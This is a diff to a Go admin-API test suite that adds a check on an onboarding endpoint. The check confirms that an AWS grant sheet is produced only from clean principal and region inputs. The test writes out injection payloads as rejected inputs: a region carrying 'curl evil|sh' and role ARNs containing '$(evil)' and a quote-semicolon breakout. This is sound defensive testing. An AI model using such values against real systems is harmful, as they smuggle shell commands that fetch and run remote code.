@@ -157,9 +157,10 @@ func TestAdminAPI(t *testing.T) {
 	}
 	a.ask("vera", "GET", "/api/v1/openapi.yaml", "", 200)
 	a.state("available")
-	for _, what := range []string{"history", "events?limit=5&kind=tenant+added", "events.csv", "usage", "report", "onboarding?principal=arn:aws:iam::444455556666:role/pgseal&region=eu-west-1", "proposals"} {
+	for _, what := range []string{"history", "events?limit=5&kind=tenant+added", "events.csv", "usage", "report", "proposals"} {
 		a.acme("vera", "GET", what, "", 200)
 	}
+	a.onboarding()
 	if v := a.acme("carol", "POST", "check", "", 200); v["ok"] != true {
 		t.Errorf("check: %v", v)
 	}
@@ -262,6 +263,20 @@ func TestAdminAPI(t *testing.T) {
 	a.refusals()
 	a.officer()
 	a.complete()
+}
+
+// onboarding: the sheet says what it was asked to say, and nothing that a shell would take for its own; a link makes none.
+func (a *apiClient) onboarding() {
+	a.t.Helper()
+	const role, sheet = "arn:aws:iam::444455556666:role/pgseal", `{"principal": %q, "region": %q, "format": "grant"}`
+	if v := a.acme("vera", "POST", "onboarding", fmt.Sprintf(sheet, role, "eu-west-1"), 200); !strings.Contains(fmt.Sprint(v["text"]), "--region eu-west-1 --key-id KEY-ID") {
+		a.t.Errorf("onboarding: %v", v)
+	}
+	for _, body := range []string{fmt.Sprintf(sheet, role, "eu-central-1\ncurl evil|sh\n"), fmt.Sprintf(sheet, role, ""), fmt.Sprintf(sheet, role, "cn-north-1"), fmt.Sprintf(sheet, "", "eu-west-1"),
+		fmt.Sprintf(sheet, "arn:aws:iam::444455556666:role/$(evil)/pgseal", "eu-west-1"), fmt.Sprintf(sheet, `arn:aws:iam::444455556666:role/";evil;"/pgseal`, "eu-west-1")} {
+		a.acme("vera", "POST", "onboarding", body, 422)
+	}
+	a.acme("vera", "GET", "onboarding?region=eu-west-1&principal="+role, "", 404)
 }
 
 // refusals are requests that are none.
